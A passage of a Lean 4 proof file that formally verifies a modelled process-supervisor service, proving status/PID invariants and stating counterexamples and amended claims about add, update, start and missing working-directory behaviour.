  simp only [ProcessManager.StartProgram]
  repeat' split
  all_goals first
    | (intro h; simp at h; done)
    | (intro _; exact ⟨rfl, pid_pos _⟩)

theorem Service_StartProgram_success (env : Env) (p : Program) (w : World) :
    (ProgramService.StartProgram env p w).1.1 = none →
      p.Status ≠ "running" ∧
      ∃ q : Program,
        mapGet (ProgramService.StartProgram env p w).2.catalog.Programs p.ID = some q ∧
          q.Status = "running" ∧ 0 < q.PID := by
  simp only [ProgramService.StartProgram]
  split
  · intro h; simp at h
  · next hst =>
    split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · next pm w1 hl =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
        split
        · intro h; simp at h
        · next stored hs =>
          split
          · intro h; simp at h
          · next sp k2 hstart =>
            have hsp := PM_StartProgram_running env stored w.next.tick
            rw [hstart] at hsp
            have hsp1 := hsp rfl
            split
            · intro h; simp at h
            · next pm1 hu =>
              obtain ⟨_, rfl⟩ := Model_UpdateProgram_true hu
              split
              · intro h; simp at h
              · next hsave =>
                intro _
                have hcat := Save_none_catalog hsave
                refine ⟨hst, ?_⟩
                simp only
                rw [hcat]
                exact ⟨_, mapGet_mapSet_self _ _ _, hsp1⟩

theorem PM_StartProgram_child (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StartProgram env p k).1.1 = none →
      ∃ (cmdName : String) (cmdArgs : List String) (pid : PNat),
        Fields p.Command = cmdName :: cmdArgs ∧
        env.spawn (k + 4) cmdName cmdArgs
            (if p.WorkingDir ≠ "" ∧ env.statOk (k + 3) p.WorkingDir = true
              then p.WorkingDir else "") = .ok pid ∧
        (ProcessManager.StartProgram env p k).1.2 =
          { p with Status := "running", PID := ((pid : Nat) : Int) } := by
  simp only [ProcessManager.StartProgram]
  split
  · intro h; simp at h
  · split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · next cmdName cmdArgs hf =>
        split
        · intro h; simp at h
        · split
          · intro h; simp at h
          · next pid hsp =>
            split
            · intro h; simp at h
            · intro _
              exact ⟨cmdName, cmdArgs, pid, hf, hsp, rfl⟩

theorem Service_StartProgram_child (env : Env) (p : Program) (w : World) :
    (ProgramService.StartProgram env p w).1.1 = none →
      ∃ (stored : Program) (cmdName : String) (cmdArgs : List String) (pid : PNat)
        (t : Time),
        mapGet w.catalog.Programs p.ID = some stored ∧
        Fields stored.Command = cmdName :: cmdArgs ∧
        env.spawn (w.tick + 1 + 4) cmdName cmdArgs
            (if stored.WorkingDir ≠ "" ∧ env.statOk (w.tick + 1 + 3) stored.WorkingDir = true
              then stored.WorkingDir else "") = .ok pid ∧
        mapGet (ProgramService.StartProgram env p w).2.catalog.Programs p.ID =
          some { stored with Status := "running", PID := ((pid : Nat) : Int), UpdatedAt := t } := by
  simp only [ProgramService.StartProgram]
  split
  · intro h; simp at h
  · split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · next pm w1 hl =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
        split
        · intro h; simp at h
        · next stored hs =>
          split
          · intro h; simp at h
          · next sp k2 hstart =>
            have hch := PM_StartProgram_child env stored w.next.tick
            rw [hstart] at hch
            obtain ⟨cmdName, cmdArgs, pid, hf, hsp, hq⟩ := hch rfl
            simp only at hq
            subst hq
            split
            · intro h; simp at h
            · next pm1 hu =>
              obtain ⟨_, rfl⟩ := Model_UpdateProgram_true hu
              split
              · intro h; simp at h
              · next hsave =>
                intro _
                have hcat := Save_none_catalog hsave
                refine ⟨stored, cmdName, cmdArgs, pid, env.now (k2 + 1), hs, hf, hsp, ?_⟩
                simp only
                rw [hcat]
                exact mapGet_mapSet_self _ _ _

/-! ## Facts about the string helpers -/

theorem fieldsAux_tokens (s : List Char) :
    ∀ cur : List Char, (∀ c ∈ cur, isSpace c = false) →
      ∀ t ∈ fieldsAux s cur, t ≠ [] ∧ ∀ c ∈ t, isSpace c = false := by
  induction s with
  | nil =>
    intro cur hcur t ht
    unfold fieldsAux at ht
    split at ht
    · simp at ht
    · next hne =>
      simp only [List.mem_singleton] at ht
      subst ht
      refine ⟨?_, fun c hc => hcur c (List.mem_reverse.1 hc)⟩
      intro h
      apply hne
      simpa using h
  | cons c cs ih =>
    intro cur hcur t ht
    unfold fieldsAux at ht
    split at ht
    · split at ht
      · exact ih [] (by simp) t ht
      · next hne =>
        rcases List.mem_cons.1 ht with h | h
        · subst h
          refine ⟨?_, fun c hc => hcur c (List.mem_reverse.1 hc)⟩
          intro h
          apply hne
          simpa using h
        · exact ih [] (by simp) t h
    · next hc =>
      refine ih (c :: cur) ?_ t ht
      intro d hd
      rcases List.mem_cons.1 hd with h | h
      · subst h; simpa using hc
      · exact hcur d h

theorem Fields_first {command first : String} {rest : List String}
    (h : Fields command = first :: rest) :
    first.data ≠ [] ∧ ∀ c ∈ first.data, isSpace c = false := by
  unfold Fields at h
  cases hf : fieldsChars command.data with
  | nil => rw [hf] at h; simp at h
  | cons t ts =>
    rw [hf] at h
    simp only [List.map_cons, List.cons.injEq] at h
    have ht : t ∈ fieldsAux command.data [] := by
      unfold fieldsChars at hf
      rw [hf]
      exact List.mem_cons_self _ _
    have := fieldsAux_tokens command.data [] (by simp) t ht
    rw [← h.1]
    exact this

theorem dropWhile_append_keep (p : Char → Bool) (a b : List Char)
    (hb : ∀ x xs, b = x :: xs → p x = false) :
    ∃ a1 : List Char, (a ++ b).dropWhile p = a1 ++ b := by
  induction a with
  | nil =>
    refine ⟨[], ?_⟩
    cases b with
    | nil => rfl
    | cons x xs => simp [List.dropWhile, hb x xs rfl]
  | cons a0 as ih =>
    by_cases h : p a0 = true
    · obtain ⟨a1, ha1⟩ := ih
      exact ⟨a1, by simp [List.dropWhile, h, ha1]⟩
    · exact ⟨a0 :: as, by simp [List.dropWhile, h]⟩

theorem trimSpaceChars_keeps_token (tok r : List Char) (hne : tok ≠ [])
    (hns : ∀ c ∈ tok, isSpace c = false) :
    ∃ r1 : List Char, trimSpaceChars (tok ++ r) = tok ++ r1 := by
  unfold trimSpaceChars
  have h1 : (tok ++ r).dropWhile isSpace = tok ++ r := by
    cases tok with
    | nil => exact absurd rfl hne
    | cons c cs => simp [List.dropWhile, hns c (List.mem_cons_self _ _)]
  rw [h1, List.reverse_append]
  obtain ⟨a1, ha1⟩ := dropWhile_append_keep isSpace r.reverse tok.reverse (by
    intro x xs hx
    apply hns
    have : x ∈ tok.reverse := by rw [hx]; exact List.mem_cons_self _ _
    exact List.mem_reverse.1 this)
  rw [ha1]
  exact ⟨a1.reverse, by simp⟩

theorem containsChars_append_self (a b : List Char) : containsChars (a ++ b) a = true := by
  cases h : a ++ b with
  | nil =>
    have : a = [] := by
      cases a with
      | nil => rfl
      | cons x xs => simp at h
    subst this
    rfl
  | cons c cs =>
    unfold containsChars
    rw [← h]
    simp [List.isPrefixOf_iff_prefix]

theorem replaceNul_firstArgv (data : String) :
    ∃ r : List Char, (replaceNul data).data = (firstArgv data).data ++ r := by
  unfold replaceNul firstArgv
  refine ⟨(data.data.dropWhile fun c => c != Char.ofNat 0).map
    fun c => if c = Char.ofNat 0 then ' ' else c, ?_⟩
  show List.map _ data.data = _
  conv_lhs => rw [← List.takeWhile_append_dropWhile (fun c => c != Char.ofNat 0) data.data]
  rw [List.map_append]
  congr 1
  have : ∀ c ∈ data.data.takeWhile (fun c => c != Char.ofNat 0), c ≠ Char.ofNat 0 := by
    intro c hc
    have := List.mem_takeWhile_imp hc
    simpa using this
  calc List.map (fun c => if c = Char.ofNat 0 then ' ' else c)
        (data.data.takeWhile fun c => c != Char.ofNat 0)
      = List.map id (data.data.takeWhile fun c => c != Char.ofNat 0) := by
        apply List.map_congr_left
        intro c hc
        simp [this c hc]
    _ = _ := by simp

/-! ## Ticks only move forward -/

theorem IsProcessRunning_tick (env : Env) (pid : Int) (k : Nat) :
    k ≤ (ProcessManager.IsProcessRunning env pid k).2 := by
  simp only [ProcessManager.IsProcessRunning, isProcessRunningOS]
  repeat' split
  all_goals simp

theorem validateProcess_tick (env : Env) (pid : Int) (c : String) (k : Nat) :
    k ≤ (validateProcess env pid c k).2 := by
  simp only [validateProcess]
  repeat' split
  all_goals simp

theorem GetProgramStatus_tick (env : Env) (p : Program) (k : Nat) :
    k ≤ (ProcessManager.GetProgramStatus env p k).2 := by
  simp only [ProcessManager.GetProgramStatus]
  split
  · exact Nat.le_refl _
  · have h1 := IsProcessRunning_tick env p.PID k
    split
    · next h => rw [h] at h1; exact h1
    · next k1 h =>
      rw [h] at h1
      have h2 := validateProcess_tick env p.PID p.Command k1
      split
      · next h3 => rw [h3] at h2; exact Nat.le_trans h1 h2
      · next h3 => rw [h3] at h2; exact Nat.le_trans h1 h2

theorem GetProgramStatus_no_error (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.GetProgramStatus env p k).1.2.2 = none := by
  rcases GetProgramStatus_cases env p k with h | ⟨h, _⟩ <;> rw [h]

theorem actual_eq (env : Env) (p : Program) (k : Nat) :
    StatusService.actual env p k =
      (((ProcessManager.GetProgramStatus env p k).1.1,
        (ProcessManager.GetProgramStatus env p k).1.2.1),
       (ProcessManager.GetProgramStatus env p k).2) := by
  have h := GetProgramStatus_no_error env p k
  simp only [StatusService.actual]
  split
  · next heq => rw [heq] at h; simp at h
  · next heq => rw [heq]

theorem PM_StopProgram_stopped (env : Env) (p : Program) (k : Nat) :
    (ProcessManager.StopProgram env p k).1.1 = none →
      (ProcessManager.StopProgram env p k).1.2.Status = "stopped" ∧
        (ProcessManager.StopProgram env p k).1.2.PID = 0 := by
  simp only [ProcessManager.StopProgram]
  repeat' split
  all_goals first
    | (intro h; simp at h; done)
    | (intro _; exact ⟨rfl, rfl⟩)

theorem Service_StopProgram_success (env : Env) (p : Program) (w : World) :
    (ProgramService.StopProgram env p w).1.1 = none →
      ∃ q : Program,
        mapGet (ProgramService.StopProgram env p w).2.catalog.Programs p.ID = some q ∧
          q.Status = "stopped" ∧ q.PID = 0 := by
  simp only [ProgramService.StopProgram]
  split
  · intro h; simp at h
  · next pm w1 hl =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
    split
    · intro h; simp at h
    · next stored hs =>
      split
      · intro h; simp at h
      · next sp k2 hstop =>
        have hsp := PM_StopProgram_stopped env stored w.next.tick
        rw [hstop] at hsp
        have hsp1 := hsp rfl
        split
        · intro h; simp at h
        · next pm1 hu =>
          obtain ⟨_, rfl⟩ := Model_UpdateProgram_true hu
          split
          · intro h; simp at h
          · next hsave =>
            intro _
            have hcat := Save_none_catalog hsave
            simp only
            rw [hcat]
            exact ⟨_, mapGet_mapSet_self _ _ _, hsp1⟩

theorem Service_StopProgram_of_stopped (env : Env) (p q : Program) (w : World)
    (hio : env.storageOKFrom w.tick)
    (hget : mapGet w.catalog.Programs p.ID = some q) (hpid : q.PID = 0) :
    (ProgramService.StopProgram env p w).1.1 = none ∧
      ∃ q1 : Program,
        mapGet (ProgramService.StopProgram env p w).2.catalog.Programs p.ID = some q1 ∧
          q1.Status = "stopped" ∧ q1.PID = 0 := by
  have hload : FileStorage.LoadPrograms env w = (.ok w.catalog, w.next) :=
    Load_of_ok (hio w.tick (Nat.le_refl _)).1
  have hg : w.catalog.GetProgramByID p.ID = some q := hget
  have hsave := hio (w.next.tick + 2) (by
    have : w.next.tick = w.tick + 1 := rfl
    omega)
  have hle : q.PID ≤ 0 := by omega
  simp only [ProgramService.StopProgram, hload, hg, ProcessManager.StopProgram, hle,
    ↓reduceIte, ProgramManager.UpdateProgram, hget]
  rw [Save_of_ok _ hsave.2.1 hsave.2.2.1 hsave.2.2.2]
  exact ⟨rfl, _, mapGet_mapSet_self _ _ _, rfl, rfl⟩

theorem Service_StopProgram_of_stopped_cases (env : Env) (p q : Program) (w : World)
    (hget : mapGet w.catalog.Programs p.ID = some q) (hpid : q.PID = 0) :
    (ProgramService.StopProgram env p w).1.1 = none ∨
      (∃ e, (ProgramService.StopProgram env p w).1.1 =
        some ("failed to load programs: " ++ e)) ∨
      (∃ e, (ProgramService.StopProgram env p w).1.1 =
        some ("failed to save program: " ++ e)) := by
  have hg : w.catalog.GetProgramByID p.ID = some q := hget
  have hle : q.PID ≤ 0 := by omega
  simp only [ProgramService.StopProgram]
  split
  · exact Or.inr (Or.inl ⟨_, rfl⟩)
  · next pm w1 hl =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
    simp only [hg, ProcessManager.StopProgram, hle, ↓reduceIte, ProgramManager.UpdateProgram,
      hget]
    split
    · exact Or.inr (Or.inr ⟨_, rfl⟩)
    · exact Or.inl rfl

theorem Service_StopProgram_stays_stopped (env : Env) (p q : Program) (w : World)
    (hget : mapGet w.catalog.Programs p.ID = some q)
    (hst : q.Status = "stopped") (hpid : q.PID = 0) :
    ∃ q1 : Program,
      mapGet (ProgramService.StopProgram env p w).2.catalog.Programs p.ID = some q1 ∧
        q1.Status = "stopped" ∧ q1.PID = 0 := by
  simp only [ProgramService.StopProgram]
  split
  · next hl => rw [Load_eq_error hl]; exact ⟨q, hget, hst, hpid⟩
  · next pm w1 hl =>
    obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
    split
    · exact ⟨q, hget, hst, hpid⟩
    · next stored hs =>
      split
      · exact ⟨q, hget, hst, hpid⟩
      · next sp k2 hstop =>
        have hsp := PM_StopProgram_stopped env stored w.next.tick
        rw [hstop] at hsp
        have hsp1 := hsp rfl
        split
        · exact ⟨q, hget, hst, hpid⟩
        · next pm1 hu =>
          obtain ⟨_, rfl⟩ := Model_UpdateProgram_true hu
          split
          · next hsave =>
            simp only
            rw [Save_error_catalog hsave]
            exact ⟨q, hget, hst, hpid⟩
          · next hsave =>
            simp only
            rw [Save_none_catalog hsave]
            exact ⟨_, mapGet_mapSet_self _ _ _, hsp1⟩

/-! ## The claims -/

/-- C1. Starting from an empty catalog, after any sequence of requests served by the
handlers (list, get, create, update, delete, start, stop, status of one, status of all,
refresh, running, stopped, memory), whatever the operating system, the clock and the
storage do, every record of the persisted catalog with status running has a positive pid
and every record with status stopped has pid 0. -/
theorem C1_status_pid_agreement (env : Env) (rs : List Request) (w : World)
    (hempty : w.catalog.Programs = []) :
    ∀ e ∈ (serve env rs w).catalog.Programs,
      (e.2.Status = "running" → e.2.PID > 0) ∧ (e.2.Status = "stopped" → e.2.PID = 0) := by
  have h0 : Consistent w.catalog := by
    intro e he
    rw [hempty] at he
    simp at he
  exact serve_keeps env rs w h0

/-- Witness for C1: create, start, query, stop and query again on a calm system, from the
world without a catalog file. -/
theorem C1_status_pid_agreement_witness :
    World.initial.catalog.Programs = [] ∧
      ∀ e ∈ (serve Env.calm
          [.create (some { Name := "sleeper", Command := "sleep 30", WorkingDir := "",
                           Description := "", Port := 0 }),
           .start "p", .status "p", .stop "p", .statusAll] World.initial).catalog.Programs,
        (e.2.Status = "running" → e.2.PID > 0) ∧ (e.2.Status = "stopped" → e.2.PID = 0) :=
  ⟨rfl, C1_status_pid_agreement Env.calm _ World.initial rfl⟩

/-- The run of the witness for C1 is not empty: the created program is started, and since
on the calm system the child never dies, the stop fails and the record stays running. -/
theorem serve_calm_run :
    ((serve Env.calm
        [.create (some { Name := "sleeper", Command := "sleep 30", WorkingDir := "",
                         Description := "", Port := 0 }),
         .start "p", .status "p", .stop "p", .statusAll] World.initial).catalog.Programs.map
      fun e => (e.1, e.2.Name, e.2.Status, e.2.PID, e.2.Port)) =
      [("p", "sleeper", "running", 4242, -1)] := by
  decide

/-- C2 (the code breaks the claim). Three successful service calls from the empty catalog
leave two records with the same name under different ids: add (id a, name x), update of a
with a Program whose ID field is b and name x, add (id b, name x). UpdateProgram stores
the argument under `a` without setting its ID field, and the duplicate-name loops compare
the ID field of the stored record, not the key it is stored under. -/
theorem C2_same_name_under_two_ids :
    (callAll Env.calm
        [.add (sampleProgram "a" "x" "sleep 1"),
         .update "a" (sampleProgram "b" "x" "sleep 1"),
         .add (sampleProgram "b" "x" "sleep 1")] World.initial).1 = [none, none, none] ∧
      ((callAll Env.calm
        [.add (sampleProgram "a" "x" "sleep 1"),
         .update "a" (sampleProgram "b" "x" "sleep 1"),
         .add (sampleProgram "b" "x" "sleep 1")] World.initial).2.catalog.Programs.map
          fun e => (e.1, e.2.Name)) = [("a", "x"), ("b", "x")] := by
  decide

/-- C3, as stated, fails: adding a program whose id is already a key succeeds and replaces
the stored record. -/
theorem C3_counterexample :
    (ProgramService.AddProgram Env.calm (sampleProgram "a" "y" "sleep 2")
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).1 = none ∧
      mapGet (ProgramService.AddProgram Env.calm (sampleProgram "a" "y" "sleep 2")
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).2.catalog.Programs "a" ≠ some (sampleProgram "a" "x" "sleep 1") := by
  decide

/-- C3 (amended). ProgramService.AddProgram has no duplicate-id check. For a program whose
id is already a key of the catalog: whenever AddProgram returns an error the persisted
catalog is unchanged; and when name and command are non-empty, the validator accepts the
command and the working directory, storage works and no record with another ID field
carries the name, AddProgram returns no error and the catalog becomes the old one with
the record under that id replaced by the given program, timestamps set by the clock. -/
theorem C3_add_existing_id (env : Env) (program old : Program) (w : World)
    (hkey : mapGet w.catalog.Programs program.ID = some old) :
    ((ProgramService.AddProgram env program w).1 ≠ none →
        (ProgramService.AddProgram env program w).2.catalog = w.catalog) ∧
      (program.Name ≠ "" → program.Command ≠ "" →
        (∀ k, env.validateCommand k program.Command = none) →
        (∀ k, env.validateWorkingDir k program.WorkingDir = none) →
        env.storageOKFrom w.tick →
        ProgramService.nameTaken w.catalog program.Name program.ID = false →
        (ProgramService.AddProgram env program w).1 = none ∧
          (∃ t1 t2 : Time,
            (ProgramService.AddProgram env program w).2.catalog =
              { w.catalog with
                Programs := mapSet w.catalog.Programs program.ID
                  { program with CreatedAt := t1, UpdatedAt := t2 } }) ∧
          (ProgramService.AddProgram env program w).2.catalog.Programs.map Prod.fst =
            w.catalog.Programs.map Prod.fst) := by
  constructor
  · exact AddProgram_error_catalog env program w
  · intro hname hcmd hval hdir hio hfree
    have hread : env.readErr w.next.next.tick = none :=
      (hio (w.tick + 1 + 1) (by omega)).1
    have hs := hio (w.tick + 1 + 1 + 1 + 3) (by omega)
    simp only [ProgramService.AddProgram, hname, hcmd, hval, hdir, ite_self, ↓reduceIte,
      Load_of_ok hread, catalog_next, hfree, Bool.false_eq_true]
    rw [Save_of_ok _ hs.2.1 hs.2.2.1 hs.2.2.2]
    have hcat : ∀ x : World, (((none : Option String), x)).2.catalog = x.catalog := fun _ => rfl
    have hfile : ∀ (pm : ProgramManager) (k : Nat),
        ({ file := some pm, tick := k } : World).catalog = pm := fun _ _ => rfl
    simp only [ProgramManager.AddProgram, hcat, hfile]
    refine ⟨trivial, ⟨env.now (w.tick + 1 + 1 + 1 + 1), env.now (w.tick + 1 + 1 + 1 + 2), ?_⟩, ?_⟩
    · by_cases hc : program.CreatedAt = 0
      · simp only [hc, ↓reduceIte]; rfl
      · simp only [hc, ↓reduceIte]; rfl
    · by_cases hc : program.CreatedAt = 0
      · simp only [hc, ↓reduceIte]; exact mapSet_keys hkey _
      · simp only [hc, ↓reduceIte]; exact mapSet_keys hkey _

/-- Witness for C3: the overwritten record of the counterexample. -/
theorem C3_add_existing_id_witness :
    mapGet ({ file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")],
                             Version := "1.0" }, tick := 0 } : World).catalog.Programs
        (sampleProgram "a" "y" "sleep 2").ID = some (sampleProgram "a" "x" "sleep 1") ∧
      (ProgramService.AddProgram Env.calm (sampleProgram "a" "y" "sleep 2")
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).1 = none :=
  ⟨by decide,
    ((C3_add_existing_id Env.calm (sampleProgram "a" "y" "sleep 2")
        (sampleProgram "a" "x" "sleep 1")
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 } (by decide)).2
      (by decide) (by decide) (fun _ => rfl) (fun _ => rfl)
      (fun _ _ => ⟨rfl, rfl, rfl, rfl⟩) (by decide)).1⟩

/-- C4, as stated, fails: a successful ProgramService.UpdateProgram writes the status and
pid of its argument over those of the stored record. -/
theorem C4_counterexample :
    (ProgramService.UpdateProgram Env.calm "a"
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 999 }
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).1 = none ∧
      (mapGet (ProgramService.UpdateProgram Env.calm "a"
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 999 }
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).2.catalog.Programs "a").map (fun p => (p.Status, p.PID)) =
        some ("running", 999) := by
  decide

/-- C4 (amended). A successful ProgramService.UpdateProgram(id, program) stores under id
exactly the Program it was given, status and pid included, with only updated_at set by
the clock. Status and pid are preserved by the HTTP handler: when
ProgramHandler.UpdateProgram answers 200, the record stored under id is the record that
was stored before with name, command, working_dir and description replaced by the trimmed
request fields, port replaced when the request carries one, and updated_at set by the
clock; status, pid and every other field are those of the stored record. -/
theorem C4_update_frame (env : Env) (id : String) (w : World) :
    (∀ program : Program, (ProgramService.UpdateProgram env id program w).1 = none →
        ∃ t : Time,
          mapGet (ProgramService.UpdateProgram env id program w).2.catalog.Programs id =
            some { program with UpdatedAt := t }) ∧
      (∀ req : Option UpdateRequest, (ProgramHandler.UpdateProgram env id req w).1.status = 200 →
        ∃ (r : UpdateRequest) (old : Program) (t : Time),
          req = some r ∧ mapGet w.catalog.Programs id = some old ∧
          mapGet (ProgramHandler.UpdateProgram env id req w).2.catalog.Programs id =
            some { old with
              Name := TrimSpace r.Name, Command := TrimSpace r.Command,
              WorkingDir := TrimSpace r.WorkingDir, Description := TrimSpace r.Description,
              Port := r.Port.getD old.Port, UpdatedAt := t }) := by
  constructor
  · intro program h
    obtain ⟨_, t, ht⟩ := Service_UpdateProgram_success env id program w h
    exact ⟨t, by rw [ht]; exact mapGet_mapSet_self _ _ _⟩
  · intro req
    simp only [ProgramHandler.UpdateProgram]
    split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · next r =>
        split
        · intro h; simp at h
        · next existing w1 hg =>
          obtain ⟨hget, rfl⟩ := GetProgramByID_ok hg
          split
          · intro h; simp at h
          · split
            · intro h; simp at h
            · split
              · split
                · intro h; simp at h
                · split
                  · intro h; simp at h
                  · intro h; simp at h
              · next hu =>
                intro _
                obtain ⟨_, t, ht⟩ := Service_UpdateProgram_success_eq hu
                refine ⟨r, existing, t, rfl, hget, ?_⟩
                simp only
                rw [ht]
                simp only [mapGet_mapSet_self]
                cases r.Port <;> rfl

/-- Witness for C4: on a calm system the handler renames the stored record and answers
200. -/
theorem C4_update_frame_witness :
    (ProgramHandler.UpdateProgram Env.calm "a"
        (some { Name := " y ", Command := "sleep 2", WorkingDir := "", Description := "",
                Port := some 8080 })
        { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
          tick := 0 }).1.status = 200 ∧
      ∃ (r : UpdateRequest) (old : Program) (t : Time),
        (some { Name := " y ", Command := "sleep 2", WorkingDir := "", Description := "",
                Port := some 8080 } : Option UpdateRequest) = some r ∧
          mapGet ({ file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")],
                                   Version := "1.0" }, tick := 0 } : World).catalog.Programs "a" =
            some old ∧
          mapGet (ProgramHandler.UpdateProgram Env.calm "a"
            (some { Name := " y ", Command := "sleep 2", WorkingDir := "", Description := "",
                    Port := some 8080 })
            { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")],
                             Version := "1.0" },
              tick := 0 }).2.catalog.Programs "a" =
            some { old with
              Name := TrimSpace r.Name, Command := TrimSpace r.Command,
              WorkingDir := TrimSpace r.WorkingDir, Description := TrimSpace r.Description,
              Port := r.Port.getD old.Port, UpdatedAt := t } :=
  ⟨by decide,
    (C4_update_frame Env.calm "a"
      { file := some { Programs := [("a", sampleProgram "a" "x" "sleep 1")], Version := "1.0" },
        tick := 0 }).2 _ (by decide)⟩

/-- C5, as stated, fails: a record with status running whose pid is not alive is not
launched; StartProgram answers that the program is already running. -/
theorem C5_counterexample :
    (ProcessManager.IsProcessRunning Env.dead 777 0).1 = false ∧
      (ProgramService.StartProgram Env.dead
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        (World.holding
          [{ sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }])).1.1 =
        some "program is already running" := by
  decide

/-- C5 (amended). ProgramService.StartProgram does not probe the recorded pid: whenever
the record handed to it has status running it fails with `program is already running`,
alive or not, and leaves the catalog and the record untouched. A launch is attempted only
for a record whose status is not running, and when StartProgram returns no error, the
catalog held a record under the id, the first field of that record's command was spawned
with the remaining fields as arguments (in the record's working directory when it is set
and exists), and the record now stored under the id is that record with status running,
the pid the spawn returned, and a fresh updated_at. -/
theorem C5_start_on_running_record (env : Env) (p : Program) (w : World) :
    (p.Status = "running" →
        ProgramService.StartProgram env p w = ((some "program is already running", p), w)) ∧
      ((ProgramService.StartProgram env p w).1.1 = none →
        p.Status ≠ "running" ∧
        ∃ (stored : Program) (cmdName : String) (cmdArgs : List String) (pid : PNat)
          (t : Time),
          mapGet w.catalog.Programs p.ID = some stored ∧
          Fields stored.Command = cmdName :: cmdArgs ∧
          env.spawn (w.tick + 1 + 4) cmdName cmdArgs
              (if stored.WorkingDir ≠ "" ∧ env.statOk (w.tick + 1 + 3) stored.WorkingDir = true
                then stored.WorkingDir else "") = .ok pid ∧
          mapGet (ProgramService.StartProgram env p w).2.catalog.Programs p.ID =
            some { stored with
              Status := "running", PID := ((pid : Nat) : Int), UpdatedAt := t }) := by
  constructor
  · intro h
    simp only [ProgramService.StartProgram, h, ↓reduceIte]
  · intro h
    exact ⟨(Service_StartProgram_success env p w h).1, Service_StartProgram_child env p w h⟩

/-- Witness for C5: a stopped record is launched on a calm system, where every spawn
returns the pid 4242, and the same record marked running is refused on a system where no
process is alive. -/
theorem C5_start_on_running_record_witness :
    ProgramService.StartProgram Env.dead
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }
        World.initial =
      ((some "program is already running",
        { sampleProgram "a" "x" "sleep 1" with Status := "running", PID := 777 }),
        World.initial) ∧
      (ProgramService.StartProgram Env.calm (sampleProgram "a" "x" "sleep 1")
        (World.holding [sampleProgram "a" "x" "sleep 1"])).1.1 = none ∧
      ∃ (stored : Program) (cmdName : String) (cmdArgs : List String) (pid : PNat) (t : Time),
        mapGet (World.holding [sampleProgram "a" "x" "sleep 1"]).catalog.Programs
          (sampleProgram "a" "x" "sleep 1").ID = some stored ∧
        Fields stored.Command = cmdName :: cmdArgs ∧
        Env.calm.spawn ((World.holding [sampleProgram "a" "x" "sleep 1"]).tick + 1 + 4)
            cmdName cmdArgs
            (if stored.WorkingDir ≠ "" ∧
                Env.calm.statOk ((World.holding [sampleProgram "a" "x" "sleep 1"]).tick + 1 + 3)
                  stored.WorkingDir = true
              then stored.WorkingDir else "") = .ok pid ∧
        mapGet (ProgramService.StartProgram Env.calm (sampleProgram "a" "x" "sleep 1")
          (World.holding [sampleProgram "a" "x" "sleep 1"])).2.catalog.Programs
          (sampleProgram "a" "x" "sleep 1").ID =
          some { stored with
            Status := "running", PID := ((pid : Nat) : Int), UpdatedAt := t } :=
  ⟨(C5_start_on_running_record Env.dead _ World.initial).1 rfl,
    by decide,
    ((C5_start_on_running_record Env.calm (sampleProgram "a" "x" "sleep 1")
      (World.holding [sampleProgram "a" "x" "sleep 1"])).2 (by decide)).2⟩

/-- C6, as stated, fails: with a working directory that does not exist the runner still
spawns the child (with no directory set) and reports success. -/
theorem C6_counterexample :
    Env.noDirs.statOk 3 "/no/such/dir" = false ∧
      ProcessManager.StartProgram Env.noDirs
          { sampleProgram "a" "x" "sleep 30" with WorkingDir := "/no/such/dir" } 0 =
        ((none, { sampleProgram "a" "x" "sleep 30" with
                    WorkingDir := "/no/such/dir", Status := "running", PID := 4242 }), 6) ∧
      (ProcessManager.StartProcess Env.noDirs "sleep 30" "/no/such/dir" 0).1.toOption =
        some 4242 := by
  decide

/-- C6 (amended). A working directory that does not exist is not an error for the runner:
ProcessManager.StartProgram and StartProcess skip setting the directory of the child and
go on exactly as they do for an empty working_dir, so the child is spawned in the
directory of the supervisor and the start succeeds or fails as it would have with an
empty working_dir. -/
theorem C6_missing_working_dir_ignored (env : Env) (p : Program) (command : String) (k : Nat)
    (hmissing : ∀ j, env.statOk j p.WorkingDir = false) :
    ProcessManager.StartProgram env p k =
        (((ProcessManager.StartProgram env { p with WorkingDir := "" } k).1.1,
          { (ProcessManager.StartProgram env { p with WorkingDir := "" } k).1.2 with
            WorkingDir := p.WorkingDir }),
         (ProcessManager.StartProgram env { p with WorkingDir := "" } k).2) ∧
      ProcessManager.StartProcess env command p.WorkingDir k =
        ProcessManager.StartProcess env command "" k := by
  constructor
  · simp only [ProcessManager.StartProgram, hmissing, Bool.false_eq_true, and_false,
      ↓reduceIte, ne_eq, not_true_eq_false, false_and]
    repeat' split
    all_goals rfl
  · simp only [ProcessManager.StartProcess, hmissing, Bool.false_eq_true, and_false,
      ↓reduceIte, ne_eq, not_true_eq_false, false_and]

/-- Witness for C6: the directory of the counterexample. -/
theorem C6_missing_working_dir_ignored_witness :
    (∀ j, Env.noDirs.statOk j
        ({ sampleProgram "a" "x" "sleep 30" with WorkingDir := "/no/such/dir" } :
          Program).WorkingDir = false) ∧
      ProcessManager.StartProcess Env.noDirs "sleep 30"
          ({ sampleProgram "a" "x" "sleep 30" with WorkingDir := "/no/such/dir" } :
